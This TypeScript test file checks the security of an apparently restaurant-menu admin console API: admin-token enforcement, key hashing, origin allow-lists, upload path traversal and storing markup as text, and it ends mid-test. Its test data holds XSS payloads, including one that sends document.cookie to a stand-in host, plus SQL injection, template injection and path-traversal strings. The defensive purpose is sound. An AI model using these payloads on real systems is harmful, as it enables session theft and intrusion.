import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { resolve } from 'node:path';
import { Writable } from 'node:stream';
import type { Express } from 'express';
import { sql } from 'kysely';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { derivePublishableKey } from '@partner/auth';
import { zData } from '@partner/contracts';
import { ZConsoleKey, ZCreatedKey } from '@partner/contracts/console';
import type { Logger } from '@partner/http';
import { createSampleDishGlb, createSampleDishUsdz, createSampleThumbnailPng } from '@partner/sample-dish';
import { OPEN_ROUTES } from './accounts/console-guard.js';
import { createApp } from './app.js';
import { OWNED_WEBHOOK_ROUTES } from './webhooks/webhooks.routes.js';
import { expectError, listRoutes, useAppHarness } from './testing/app-harness.js';
import { outboxEventsAbout, seedIntegrator, seedItem, seedRestaurant } from './testing/factories.js';

// Console at its own door (docs/security.md, API2, API3, API4, API8): the admin token on every route,
// keys shown once and stored as hashes, origin allow-lists, bounded model uploads, text kept as text,
// and no secret in the logs. Real Postgres, Redis and asset directory, as the harness gives them.

const h = useAppHarness();

const unique = (base: string) => `${base}-${randomBytes(4).toString('hex')}`;
const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

// ---------------------------------------------------------------------------------------------------
// The route table: every route the register* functions of app.ts mount, with a request each route
// would answer (2xx or a 4xx of its own) if the guard let it through. Ids are well formed and unknown.

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
interface Route {
  /** `METHOD /pattern`, as Express knows it. */
  route: string;
  url: string;
  body?: object;
}

const ROUTES: Route[] = [
  // registerSignInRoutes (the sign-in routes themselves are open: they are checked in sign-in.routes.test.ts)
  { route: 'POST /console/sign-in/password', url: '/console/sign-in/password', body: { email: 'a@b.test', password: 'x' } },
  { route: 'POST /console/sign-in/link', url: '/console/sign-in/link', body: { email: 'a@b.test' } },
  { route: 'POST /console/sign-in/link/redeem', url: '/console/sign-in/link/redeem', body: { token: 'unknown' } },
  { route: 'GET /console/session', url: '/console/session' },
  { route: 'DELETE /console/session', url: '/console/session' },
  { route: 'POST /console/session/sign-out-everywhere', url: '/console/session/sign-out-everywhere' },
  { route: 'PUT /console/account/password', url: '/console/account/password', body: { password: 'a long enough password' } },
  // registerMemberRoutes
  ...['restaurants/rst', 'integrators/org'].flatMap((owner): Route[] => {
    const [segment, prefix] = owner.split('/');
    return [
      { route: `GET /console/${segment}/:id/members`, url: `/console/${segment}/${prefix}_unknown000000/members` },
      {
        route: `POST /console/${segment}/:id/members`,
        url: `/console/${segment}/${prefix}_unknown000000/members`,
        body: { email: 'a@b.test' },
      },
      {
        route: `DELETE /console/${segment}/:id/members/:accountId`,
        url: `/console/${segment}/${prefix}_unknown000000/members/acc_unknown000000`,
      },
    ];
  }),
  // registerRestaurantRoutes
  { route: 'GET /console/restaurants', url: '/console/restaurants' },
  { route: 'POST /console/restaurants', url: '/console/restaurants', body: { name: 'Chez Porte', slug: 'chez-porte', currency: 'EUR' } },
  { route: 'GET /console/restaurants/:id', url: '/console/restaurants/rst_unknown000000' },
  { route: 'GET /console/restaurants/:id/usage', url: '/console/restaurants/rst_unknown000000/usage' },
  { route: 'GET /console/restaurants/:id/preview-key', url: '/console/restaurants/rst_unknown000000/preview-key' },
  { route: 'PATCH /console/restaurants/:id', url: '/console/restaurants/rst_unknown000000', body: { suspended: true } },
  // registerMenuRoutes
  { route: 'POST /console/restaurants/:id/sections', url: '/console/restaurants/rst_unknown000000/sections', body: { name: 'Mains' } },
  { route: 'GET /console/restaurants/:id/sections', url: '/console/restaurants/rst_unknown000000/sections' },
  { route: 'GET /console/restaurants/:id/items', url: '/console/restaurants/rst_unknown000000/items' },
  {
    route: 'POST /console/restaurants/:id/items',
    url: '/console/restaurants/rst_unknown000000/items',
    body: { name: 'Soupe', priceCents: 750 },
  },
  { route: 'PATCH /console/items/:id', url: '/console/items/itm_unknown000000', body: { priceCents: 1 } },
  { route: 'DELETE /console/items/:id', url: '/console/items/itm_unknown000000' },
  // registerModelRoutes
  { route: 'PUT /console/items/:id/model', url: '/console/items/itm_unknown000000/model' },
  // registerIntegratorRoutes
  { route: 'POST /console/integrators', url: '/console/integrators', body: { name: 'POS Porte', slug: 'pos-porte' } },
  { route: 'GET /console/integrators', url: '/console/integrators' },
  { route: 'GET /console/integrators/:id', url: '/console/integrators/org_unknown000000' },
  { route: 'PATCH /console/integrators/:id', url: '/console/integrators/org_unknown000000', body: { suspended: true } },
  { route: 'POST /console/integrators/:id/connect-links', url: '/console/integrators/org_unknown000000/connect-links', body: {} },
  { route: 'GET /console/integrators/:id/connect-links', url: '/console/integrators/org_unknown000000/connect-links' },
  { route: 'GET /console/connect-links/:token', url: '/console/connect-links/cl_unknown000000' },
  {
    route: 'POST /console/connect-links/:token/approve',
    url: '/console/connect-links/cl_unknown000000/approve',
    body: { restaurantId: 'rst_unknown000000' },
  },
  { route: 'GET /console/integrators/:id/grants', url: '/console/integrators/org_unknown000000/grants' },
  { route: 'GET /console/restaurants/:id/grants', url: '/console/restaurants/rst_unknown000000/grants' },
  { route: 'POST /console/grants/:id/revoke', url: '/console/grants/grt_unknown000000/revoke' },
  // registerKeyRoutes
  {
    route: 'POST /console/keys',
    url: '/console/keys',
    body: { restaurantId: 'rst_unknown000000', type: 'secret', environment: 'live', name: 'POS' },
  },
  { route: 'GET /console/keys', url: '/console/keys?restaurantId=rst_unknown000000' },
  { route: 'POST /console/keys/:id/revoke', url: '/console/keys/key_unknown000000/revoke' },
  // registerAuditRoutes
  { route: 'GET /console/audit-events', url: '/console/audit-events' },
  // registerPlatformSettingsRoutes
  { route: 'GET /console/platform/kill-switch', url: '/console/platform/kill-switch' },
  { route: 'PUT /console/platform/kill-switch', url: '/console/platform/kill-switch', body: { concierge: false } },
  // registerWebhookRoutes (the webhooks service is not running: a request let through answers 503)
  { route: 'GET /console/webhook-deliveries', url: '/console/webhook-deliveries' },
  { route: 'GET /console/webhook-deliveries/:id', url: '/console/webhook-deliveries/whd_unknown000000' },
  { route: 'POST /console/webhook-deliveries/:id/resend', url: '/console/webhook-deliveries/whd_unknown000000/resend' },
  { route: 'POST /console/webhook-endpoints/:id/enable', url: '/console/webhook-endpoints/we_unknown000000/enable' },
  {
    route: 'POST /console/webhook-endpoints/:id/recover',
    url: '/console/webhook-endpoints/we_unknown000000/recover',
    body: { since: '2026-11-20T00:00:00Z' },
  },
  ...OWNED_WEBHOOK_ROUTES.flatMap(([method, path]) =>
    ['restaurants/rst', 'integrators/org'].map((owner): Route => {
      const [segment, prefix] = owner.split('/');
      return {
        route: `${method} /console/${segment}/:ownerId/${path}`,
        url: `/console/${segment}/${prefix}_unknown000000/${path.replace(':id', 'we_unknown000000')}`,
        body: method === 'POST' || method === 'PATCH' ? {} : undefined,
      };
    }),
  ),
];

function send(app: Express, route: Route, headers: Record<string, string>, query: Record<string, string> = {}) {
  const method = route.route.split(' ')[0]!.toLowerCase() as Lowercase<Method>;
  const req = request(app)[method](route.url).query(query).set(headers);
  return route.body ? req.send(route.body) : req;
}

/** The token with one character changed: same length, same alphabet. */
const flip = (token: string, at: number) => `${token.slice(0, at)}${token[at] === 'a' ? 'b' : 'a'}${token.slice(at + 1)}`;

interface Credential {
  name: string;
  headers: (token: string) => Record<string, string>;
  query?: (token: string) => Record<string, string>;
}

/** Everything but `Authorization: Bearer <the admin token>`. */
const REFUSED: Credential[] = [
  { name: 'no Authorization header', headers: () => ({}) },
  { name: 'an empty Authorization header', headers: () => ({ Authorization: '' }) },
  { name: 'the Bearer scheme without a token', headers: () => ({ Authorization: 'Bearer ' }) },
  { name: 'a wrong token of the same length', headers: (token) => ({ Authorization: `Bearer ${flip(token, token.length - 1)}` }) },
  { name: 'a wrong token of another length', headers: (token) => ({ Authorization: `Bearer ${token.slice(0, -1)}` }) },
  { name: 'the token in upper case', headers: (token) => ({ Authorization: `Bearer ${token.toUpperCase()}` }) },
  {
    name: 'the token in the Basic scheme',
    headers: (token) => ({ Authorization: `Basic ${Buffer.from(`admin:${token}`).toString('base64')}` }),
  },
  { name: 'the token in the Token scheme', headers: (token) => ({ Authorization: `Token ${token}` }) },
  { name: '"Bearer:" with a colon', headers: (token) => ({ Authorization: `Bearer: ${token}` }) },
  { name: 'the token followed by more words', headers: (token) => ({ Authorization: `Bearer ${token} ${token}` }) },
  { name: 'the token in another header', headers: (token) => ({ 'X-Admin-Token': token, 'X-Api-Key': token }) },
  { name: 'the token in a cookie', headers: (token) => ({ Cookie: `token=${token}; admin_token=${token}` }) },
  { name: 'the token in the query string', headers: () => ({}), query: (token) => ({ token, access_token: token }) },
];

describe('the admin token', () => {
  it('is asked on exactly the routes of this table: the register* functions mount these and nothing else', () => {
    const served = listRoutes(h.app)
      .map(({ method, path }) => `${method} ${path}`)
      .filter((route) => route !== 'GET /healthz');
    expect(served.sort()).toEqual(ROUTES.map(({ route }) => route).sort());
  });

  describe.each(ROUTES.map((route) => [route.route, route] as const))('%s', (_name, route) => {
    it.skipIf(OPEN_ROUTES.has(route.route))(
      'refuses every credential but the admin token with one and the same 401 unauthorized, echoing nothing',
      async () => {
        const token = h.deps.adminToken;
        const messages = new Set<string>();
        for (const credential of REFUSED) {
          const res = await send(h.app, route, credential.headers(token), credential.query?.(token));
          expect.soft(res.status, credential.name).toBe(401);
          expectError(res, 401, 'unauthorized');
          expect(res.text).not.toContain(token);
          messages.add(res.body.error.message);
        }
        // No oracle: a token of the right length is refused in the very words of a missing one.
        expect([...messages]).toHaveLength(1);
        // The same request with the token reaches the route (the refusals above were the guard's).
        const reached = await send(h.app, route, h.admin);
        expect(reached.status).not.toBe(401);
        // Never a crash: the only 5xx is the absent webhooks service's 503 behind the webhook routes.
        if (reached.status >= 500) expectError(reached, 503, 'service_unavailable');
      },
    );
  });

  it('keeps a refused request from changing anything, however close its token was', async () => {
    const near = { Authorization: `Bearer ${flip(h.deps.adminToken, h.deps.adminToken.length - 1)}` };
    const restaurant = await seedRestaurant(h.deps);
    const item = await seedItem(h.deps, restaurant.id);
    const integrator = await seedIntegrator(h.deps);
    const key = (
      await request(h.app)
        .post('/console/keys')
        .set(h.admin)
        .send({ restaurantId: restaurant.id, type: 'secret', environment: 'live', name: 'k' })
    ).body.data;
    const files = { glb: createSampleDishGlb(), usdz: createSampleDishUsdz(), thumbnail: createSampleThumbnailPng(32) };
    const stored = await storedFiles();
    const slug = unique('never-created');
    const snapshot = async () => ({
      restaurant: await h.deps.db.selectFrom('restaurants').selectAll().where('id', '=', restaurant.id).executeTakeFirstOrThrow(),
      item: await h.deps.db.selectFrom('items').selectAll().where('id', '=', item.id).executeTakeFirstOrThrow(),
      integrator: await h.deps.db.selectFrom('integrator_orgs').selectAll().where('id', '=', integrator.id).executeTakeFirstOrThrow(),
      keys: await h.deps.db.selectFrom('api_keys').selectAll().where('restaurant_id', '=', restaurant.id).orderBy('id').execute(),
      connectLinks: await h.deps.db.selectFrom('connect_links').selectAll().where('integrator_org_id', '=', integrator.id).execute(),
      settings: await h.deps.db.selectFrom('platform_settings').selectAll().execute(),
      created: await h.deps.db.selectFrom('restaurants').select('id').where('slug', '=', slug).execute(),
    });
    const before = await snapshot();

    const refused = [
      request(h.app).post('/console/restaurants').set(near).send({ name: 'Intruder', slug, currency: 'EUR' }),
      request(h.app).patch(`/console/restaurants/${restaurant.id}`).set(near).send({ suspended: true, name: 'Hijacked' }),
      request(h.app).patch(`/console/items/${item.id}`).set(near).send({ name: 'Hijacked', priceCents: 1 }),
      request(h.app).delete(`/console/items/${item.id}`).set(near),
      request(h.app)
        .put(`/console/items/${item.id}/model`)
        .set(near)
        .attach('glb', files.glb, 'a.glb')
        .attach('usdz', files.usdz, 'a.usdz')
        .attach('thumbnail', files.thumbnail, 'a.png'),
      request(h.app).patch(`/console/integrators/${integrator.id}`).set(near).send({ suspended: true }),
      request(h.app).post(`/console/integrators/${integrator.id}/connect-links`).set(near).send({}),
      request(h.app)
        .post('/console/keys')
        .set(near)
        .send({ restaurantId: restaurant.id, type: 'secret', environment: 'live', name: 'stolen' }),
      request(h.app).post(`/console/keys/${key.id}/revoke`).set(near),
      request(h.app).put('/console/platform/kill-switch').set(near).send({ concierge: true }),
    ];
    for (const res of await Promise.all(refused)) {
      expectError(res, 401, 'unauthorized');
      expect(JSON.stringify(res.body)).not.toContain(key.value);
    }

    expect(await snapshot()).toEqual(before);
    expect(await storedFiles()).toEqual(stored);
    expect((await outboxEventsAbout(h.deps.db, 'itemId', item.id)).map((event) => event.type)).toEqual(['item.created']);
  });

  it('answers /healthz without a token, and only /healthz: paths built on it still ask for the token', async () => {
    for (const headers of [{}, { Authorization: 'Bearer not-the-token' }, { Authorization: 'Basic Zm9vOmJhcg==' }]) {
      const res = await request(h.app).get('/healthz').set(headers);
      expect(res.status).toBe(200);
      expect(res.body).toEqual({ status: 'ok', service: 'console' });
    }
    for (const path of [
      '/healthz/console/keys',
      '/healthz/../console/platform/kill-switch',
      '/healthz/%2e%2e/console/platform/kill-switch',
      '/healthz%2F..%2Fconsole%2Fplatform%2Fkill-switch',
      '/console/platform/kill-switch?next=/healthz',
      '/console/platform/kill-switch/',
      '/CONSOLE/PLATFORM/KILL-SWITCH',
      '/healthz;x',
      '/healthz.json',
    ]) {
      expectError(await request(h.app).get(path), 401, 'unauthorized');
    }
  });
});

describe('the token comparison', () => {
  it('answers a wrong token of the same length and of any other length (in characters or in UTF-8 bytes) the same 401, never a length error', async () => {
    const token = h.deps.adminToken;
    const wrong = [
      flip(token, 0),
      flip(token, token.length - 1),
      flip(flip(token, 5), 20),
      token.slice(0, -1),
      token.slice(0, token.length / 2),
      `${token}a`,
      `${token}${token}`,
      'a',
      'x'.repeat(4096),
      // Same length as the token in characters, one byte longer in UTF-8 (a comparison of string lengths
      // followed by timingSafeEqual over the UTF-8 bytes would throw here).
      `${token.slice(0, -1)}é`,
      // One character shorter, the same length in UTF-8 bytes.
      `${token.slice(0, -2)}é`,
    ];
    expect(wrong.filter((candidate) => candidate.length === token.length)).toHaveLength(4);
    const answers = await Promise.all(
      wrong.map((candidate) => request(h.app).get('/console/platform/kill-switch').set('Authorization', `Bearer ${candidate}`)),
    );
    for (const res of answers) expectError(res, 401, 'unauthorized');
    expect(new Set(answers.map((res) => res.body.error.message)).size).toBe(1);
    // Nothing to lock out or remember: the right token is answered right after.
    expect((await request(h.app).get('/console/platform/kill-switch').set(h.admin)).status).toBe(200);
  });
});

// ---------------------------------------------------------------------------------------------------

/** The tables of this file's database whose rows, as text, contain `needle`. */
async function tablesContaining(needle: string): Promise<string[]> {
  const { rows: tables } = await sql<{ name: string }>`
    select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'
  `.execute(h.deps.db);
  expect(tables.length).toBeGreaterThan(5);
  const found: string[] = [];
  for (const { name } of tables) {
    const { rows } = await sql<{ hits: string }>`
      select count(*)::text as hits from ${sql.table(name)} as t where t::text like ${`%${needle}%`}
    `.execute(h.deps.db);
    if (rows[0]!.hits !== '0') found.push(name);
  }
  return found;
}

/** What an HTTP answer could reveal of a key: its random part, prefix and last four aside. */
const secretPartOf = (value: string) => value.slice(value.lastIndexOf('_') + 1, -4);

describe('API keys', () => {
  const createKey = (body: Record<string, unknown>) => request(h.app).post('/console/keys').set(h.admin).send(body);

  it('show their plaintext in the creation answer only: no table, listing, revocation or other answer holds it', async () => {
    const restaurant = await seedRestaurant(h.deps);
    const integrator = await seedIntegrator(h.deps);
    const created = [
      await createKey({ restaurantId: restaurant.id, type: 'secret', environment: 'live', name: 'POS' }).set(
        'Idempotency-Key',
        unique('idem'),
      ),
      await createKey({
        integratorOrgId: integrator.id,
        type: 'publishable',
        environment: 'test',
        name: 'web',
        allowedOrigins: ['https://a.test'],
      }),
    ].map((res) => {
      expect(res.status).toBe(201);
      return zData(ZCreatedKey.strict()).parse(res.body).data;
    });

    const answers = [
      await request(h.app).get('/console/keys').query({ restaurantId: restaurant.id }).set(h.admin),
      await request(h.app).get('/console/keys').query({ integratorOrgId: integrator.id }).set(h.admin),
      await request(h.app).get(`/console/restaurants/${restaurant.id}`).set(h.admin),
      await request(h.app).get(`/console/integrators/${integrator.id}`).set(h.admin),
      ...(await Promise.all(created.map((key) => request(h.app).post(`/console/keys/${key.id}/revoke`).set(h.admin)))),
    ];
    // There is no route that reads one key back.
    const single = await request(h.app).get(`/console/keys/${created[0]!.id}`).set(h.admin);
    expectError(single, 404, 'not_found');
    answers.push(single);
    for (const res of answers) expect(res.status).toBeLessThan(500);

    for (const key of created) {
      const secret = secretPartOf(key.value);
      expect(secret).toHaveLength(34);
      for (const res of answers) expect(res.text).not.toContain(secret);
      // Stored: the SHA-256 of the plaintext, and nothing of the plaintext in any table (the scan finds
      // the row itself by its id, so it does read the keys' table).
      const row = await h.deps.db.selectFrom('api_keys').selectAll().where('id', '=', key.id).executeTakeFirstOrThrow();
      expect(row.key_hash).toBe(sha256(key.value));
      expect(await tablesContaining(key.id)).toContain('api_keys');
      expect(await tablesContaining(secret)).toEqual([]);
    }
    // Listings and revocations carry the metadata only, in exactly the contract's fields.
    for (const listed of [...answers[0]!.body.data, ...answers[1]!.body.data]) ZConsoleKey.strict().parse(listed);
    for (const res of answers.slice(4, 6)) expect(ZConsoleKey.strict().parse(res.body.data).revokedAt).not.toBeNull();
  });

  it("never show the public menu page's key, which is derived from a server secret and stored as a hash only", async () => {
    const created = await request(h.app)
      .post('/console/restaurants')
      .set(h.admin)
      .send({ name: 'Chez Page', slug: unique('chez-page'), currency: 'EUR' });
    expect(created.status).toBe(201);
    const id: string = created.body.data.id;
    const pageKey = derivePublishableKey(h.deps.menuPageKeySecret, `menu-page:${id}`, h.deps.menuPageKeyEnvironment);

    const listed = await request(h.app).get('/console/keys').query({ restaurantId: id }).set(h.admin);
    const listedPageKey = listed.body.data.find((key: { name: string }) => key.name === 'Public menu page');
    expect(listedPageKey).toMatchObject({ type: 'publishable', redacted: `${pageKey.prefix}…${pageKey.last4}` });
    const row = await h.deps.db.selectFrom('api_keys').selectAll().where('id', '=', listedPageKey.id).executeTakeFirstOrThrow();
    expect(row.key_hash).toBe(pageKey.hash);

    const answers = [
      created,
      listed,
      await request(h.app).get(`/console/restaurants/${id}`).set(h.admin),
      await request(h.app).patch(`/console/restaurants/${id}`).set(h.admin).send({ menuPageEnabled: false }),
      await request(h.app).patch(`/console/restaurants/${id}`).set(h.admin).send({ menuPageEnabled: true }),
    ];
    for (const res of answers) expect(res.text).not.toContain(secretPartOf(pageKey.value));
    expect(await tablesContaining(secretPartOf(pageKey.value))).toEqual([]);
  });

  it('stay revoked: nothing console does afterwards brings a revoked key back, nor moves its revocation time', async () => {
    const restaurant = await seedRestaurant(h.deps);
    const key = (await createKey({ restaurantId: restaurant.id, type: 'secret', environment: 'test', name: 'leaked' })).body.data;
    const revoked = await request(h.app).post(`/console/keys/${key.id}/revoke`).set(h.admin);
    expect(revoked.status).toBe(200);
    const revokedAt: string = revoked.body.data.revokedAt;
    expect(revokedAt).toEqual(expect.any(String));

    // What an operator does next with that restaurant: its page off and on, suspension and back, new
    // keys, the same revocation again later.
    h.clock.advance(60_000);
    const patch = (body: object) => request(h.app).patch(`/console/restaurants/${restaurant.id}`).set(h.admin).send(body).expect(200);
    await patch({ menuPageEnabled: false });
    await patch({ menuPageEnabled: true });
    await patch({ suspended: true });
    await patch({ suspended: false });
    await patch({ subscriptionStatus: 'lapsed' });
    await patch({ subscriptionStatus: 'active' });
    expect((await createKey({ restaurantId: restaurant.id, type: 'secret', environment: 'test', name: 'replacement' })).status).toBe(201);
    const again = await request(h.app).post(`/console/keys/${key.id}/revoke`).set(h.admin);
    expect(again.body.data.revokedAt).toBe(revokedAt);

    const row = await h.deps.db.selectFrom('api_keys').selectAll().where('id', '=', key.id).executeTakeFirstOrThrow();
    expect(row.revoked_at?.toISOString()).toBe(revokedAt);
    const listed = await request(h.app).get('/console/keys').query({ restaurantId: restaurant.id }).set(h.admin);
    expect(listed.body.data.find((one: { id: string }) => one.id === key.id)).toMatchObject({ revokedAt });
  });
});

describe('allowed origins of publishable keys', () => {
  const createPublishable = (owner: { restaurantId: string } | { integratorOrgId: string }, name: string, allowedOrigins: string[]) =>
    request(h.app)
      .post('/console/keys')
      .set(h.admin)
      .send({ ...owner, type: 'publishable', environment: 'live', name, allowedOrigins });
  const keysNamed = (name: string) => h.deps.db.selectFrom('api_keys').select('id').where('name', '=', name).execute();

  it.each([
    'https://*.co.uk',
    'https://*.github.io',
    'https://*.com.au',
    'https://*.herokuapp.com',
    'https://*.blogspot.com',
    'https://*.s3.amazonaws.com',
    'https://*.pages.dev',
    'https://*.co.uk.',
    'https://*.127.0.0.1',
    // Not a registrable domain either.
    'https://*.*.example.com',
  ])('refuse the wildcard %s (every site under a public suffix) with 400 invalid_request, storing nothing', async (wildcard) => {
    const restaurant = await seedRestaurant(h.deps);
    const integrator = await seedIntegrator(h.deps);
    for (const owner of [{ restaurantId: restaurant.id }, { integratorOrgId: integrator.id }]) {
      const name = unique('too-broad');
      const res = await createPublishable(owner, name, ['https://shop.example.com', wildcard]);
      expectError(res, 400, 'invalid_request', 'allowedOrigins');
      expect(res.body.error.message).toContain(wildcard);
      expect(await keysNamed(name)).toEqual([]);
    }
  });

  // Not listed: `https://*`, `http://*.example.com`, `https://*example.com`, `https://www.*.example.com`.
  // ZOriginPattern accepts them today as exact origins (WHATWG URL allows `*` in a host), stored as
  // typed although no browser Origin ever equals them: they match nothing, but are not refused.
  it.each([
    '*',
    '*.example.com',
    'https://*.example.com:8443',
    'https://*.example.com:443',
    'https://*.com',
    'https://*.localhost',
    'https://example.com/',
    'https://example.com/menu',
    'https://example.com?x=1',
    'https://user:password@example.com',
    'https://EXAMPLE.com',
    'https://exa mple.com',
    'example.com',
    'null',
    '',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'ftp://example.com',
  ])('refuse the malformed origin %j with 400 invalid_request naming its entry, storing nothing', async (malformed) => {
    const restaurant = await seedRestaurant(h.deps);
    const name = unique('malformed');
    expectError(
      await createPublishable({ restaurantId: restaurant.id }, name, ['https://shop.example.com', malformed]),
      400,
      'invalid_request',
      'allowedOrigins.1',
    );
    expect(await keysNamed(name)).toEqual([]);
  });

  it('take a wildcard on a registrable domain under those suffixes', async () => {
    const restaurant = await seedRestaurant(h.deps);
    const origins = ['https://*.example.co.uk', 'https://*.mysite.github.io', 'http://localhost:5173'];
    const res = await createPublishable({ restaurantId: restaurant.id }, unique('fine'), origins);
    expect(res.status).toBe(201);
    expect(res.body.data.allowedOrigins).toEqual(origins);
  });
});

// ---------------------------------------------------------------------------------------------------

type ModelPart = 'glb' | 'usdz' | 'thumbnail';
const MODEL_PARTS: ModelPart[] = ['glb', 'usdz', 'thumbnail'];

/** The asset directory's entries, sorted, with a trailing slash on directories. */
async function storedFiles(): Promise<string[]> {
  const entries = await readdir(h.storageDir, { withFileTypes: true }).catch(() => []);
  return entries.map((entry) => (entry.isDirectory() ? `${entry.name}/` : entry.name)).sort();
}

describe('model uploads', () => {
  let files: Record<ModelPart, Buffer>;
  beforeAll(() => {
    files = { glb: createSampleDishGlb(), usdz: createSampleDishUsdz(), thumbnail: createSampleThumbnailPng(48) };
  });

  const upload = (itemId: string, parts: Partial<Record<string, Buffer>>, filenames: Partial<Record<string, string>> = {}) => {
    const req = request(h.app).put(`/console/items/${itemId}/model`).set(h.admin);
    for (const [name, data] of Object.entries(parts)) req.attach(name, data!, filenames[name] ?? `${name}.bin`);
    return req;
  };
  const itemRow = (id: string) => h.deps.db.selectFrom('items').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  const newItem = async () => seedItem(h.deps, (await seedRestaurant(h.deps)).id);

  it('refuse a file over MODEL_MAX_BYTES with 413, storing nothing and leaving the ready model as it was', async () => {
    const item = await newItem();
    expect((await upload(item.id, files)).status).toBe(200);
    const before = {
      row: await itemRow(item.id),
      stored: await storedFiles(),
      events: await outboxEventsAbout(h.deps.db, 'itemId', item.id),
    };
    expect(before.row.model_status).toBe('ready');

    for (const part of MODEL_PARTS) {
      // A different content each time: stored, it would show up under a new content-addressed name.
      const oversized = Buffer.alloc(h.deps.maxModelBytes + 1, part);
      expectError(await upload(item.id, { ...files, [part]: oversized }), 413, 'payload_too_large', part);
    }

    expect(await itemRow(item.id)).toEqual(before.row);
    expect(await storedFiles()).toEqual(before.stored);
    expect(await outboxEventsAbout(h.deps.db, 'itemId', item.id)).toEqual(before.events);
  });

  it('do not refuse a file just under MODEL_MAX_BYTES for its size (the limit is the configured one)', async () => {
    const item = await newItem();
    const stored = await storedFiles();
    // Just under: busboy counts a file that reaches its fileSize limit as over it, so one of exactly
    // MODEL_MAX_BYTES is refused too.
    const res = await upload(item.id, { ...files, glb: Buffer.alloc(h.deps.maxModelBytes - 1, 'glb') });
    expectError(res, 422, 'model_invalid');
    expect(await storedFiles()).toEqual(stored);
  });

  it.each([
    ['a text/plain body', 415, 'unsupported_media_type', (req: request.Test) => req.set('Content-Type', 'text/plain').send('glb=model')],
    [
      'the GLB itself as application/octet-stream',
      415,
      'unsupported_media_type',
      (req: request.Test) => req.set('Content-Type', 'application/octet-stream').send(createSampleDishGlb()),
    ],
    ['a url-encoded form', 415, 'unsupported_media_type', (req: request.Test) => req.type('form').send({ glb: 'model' })],
    ['no body at all', 415, 'unsupported_media_type', (req: request.Test) => req],
    [
      'multipart/form-data without a boundary',
      400,
      'invalid_request',
      (req: request.Test) => req.set('Content-Type', 'multipart/form-data').send('--x\r\n'),
    ],
    [
      'a multipart body cut short in its part headers',
      400,
      'invalid_request',
      (req: request.Test) =>
        req.set('Content-Type', 'multipart/form-data; boundary=cut').send('--cut\r\nContent-Disposition: form-data; name="glb"'),
    ],
    ['a text field instead of a file', 400, 'invalid_request', (req: request.Test) => req.field('glb', 'model')],
  ] as const)('refuse %s with %i %s before touching the item or the storage', async (_name, status, code, build) => {
    const item = await newItem();
    const stored = await storedFiles();
    expectError(await build(request(h.app).put(`/console/items/${item.id}/model`).set(h.admin)), status, code);
    expect(await itemRow(item.id)).toMatchObject({ model_status: 'none', model_updated_at: null, model_glb_key: null });
    expect(await storedFiles()).toEqual(stored);
  });

  it('store files under their content hash in the storage directory, whatever path their names give', async () => {
    const item = await newItem();
    const tag = randomBytes(4).toString('hex');
    const filenames = {
      glb: `../../../../../../tmp/escaped-${tag}.glb`,
      usdz: `..\\..\\..\\escaped-${tag}.usdz`,
      thumbnail: `/tmp/escaped-${tag}.png`,
    };
    const before = await storedFiles();

    // A field named like a path is not a file console takes.
    expectError(
      await upload(
        item.id,
        { '../../glb': files.glb, usdz: files.usdz, thumbnail: files.thumbnail },
        { '../../glb': `../escaped-${tag}.glb` },
      ),
      400,
      'invalid_request',
      '../../glb',
    );
    expect(await storedFiles()).toEqual(before);

    const res = await upload(item.id, files, filenames);
    expect(res.status).toBe(200);
    const row = await itemRow(item.id);
    const keys = [row.model_glb_key, row.model_usdz_key, row.model_thumbnail_key];
    expect(keys).toEqual([`${sha256(files.glb)}.glb`, `${sha256(files.usdz)}.usdz`, `${sha256(files.thumbnail)}.png`]);
    // Nothing but content-addressed files, directly in the directory; nothing where the names pointed.
    const after = await storedFiles();
    expect(after).toEqual([...new Set([...before, ...(keys as string[])])].sort());
    for (const name of after) expect(name).toMatch(/^[0-9a-f]{64}\.(glb|usdz|png|jpg|webp)$/);
    for (const filename of [...Object.values(filenames), `../escaped-${tag}.glb`]) {
      expect(existsSync(resolve(h.storageDir, filename))).toBe(false);
      expect(existsSync(resolve(h.storageDir, filename.replaceAll('\\', '/')))).toBe(false);
    }
    expect(res.text).not.toContain('escaped-');
  });
});

// ---------------------------------------------------------------------------------------------------

describe('text', () => {
  it.each([
    '<script>alert("console")</script>',
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(document.cookie)>',
    "</script><script>fetch('//evil.test/?c='+document.cookie)</script>",
    '&lt;b&gt;already escaped&lt;/b&gt; &amp; &#x3C;',
    "{{constructor.constructor('alert(1)')()}} ${7*7}",
    "'; drop table items; --",
  ])('is stored and answered verbatim, as a JSON string: %s', async (markup) => {
    const json = (res: request.Response, status: number) => {
      expect(res.status).toBe(status);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      return JSON.parse(res.text).data;
    };
    const tag = markup.slice(0, 40).trim();
    const restaurant = json(
      await request(h.app)
        .post('/console/restaurants')
        .set(h.admin)
        .send({ name: markup, slug: unique('markup'), currency: 'EUR', houseNotes: `${markup}\n${markup}` }),
      201,
    );
    const patched = json(
      await request(h.app)
        .patch(`/console/restaurants/${restaurant.id}`)
        .set(h.admin)
        .send({ concierge: { displayName: markup.slice(0, 80), welcomeMessage: markup } }),
      200,
    );
    const section = json(
      await request(h.app).post(`/console/restaurants/${restaurant.id}/sections`).set(h.admin).send({ name: markup }),
      201,
    );
    const item = json(
      await request(h.app)
        .post(`/console/restaurants/${restaurant.id}/items`)
        .set(h.admin)
        .send({ name: markup, description: markup, priceCents: 100, sectionId: section.id, dietaryTags: [tag], allergens: [tag] }),
      201,
    );
    const integrator = json(
      await request(h.app)
        .post('/console/integrators')
        .set(h.admin)
        .send({ name: markup, slug: unique('markup') }),
      201,
    );
    const key = json(
      await request(h.app)
        .post('/console/keys')
        .set(h.admin)
        .send({ restaurantId: restaurant.id, type: 'secret', environment: 'test', name: markup }),
      201,
    );

    expect(restaurant).toMatchObject({ name: markup, houseNotes: `${markup}\n${markup}` });
    expect(patched.concierge).toEqual({ displayName: markup.slice(0, 80), welcomeMessage: markup });
    expect(item).toMatchObject({ name: markup, description: markup, dietaryTags: [tag], allergens: [tag] });
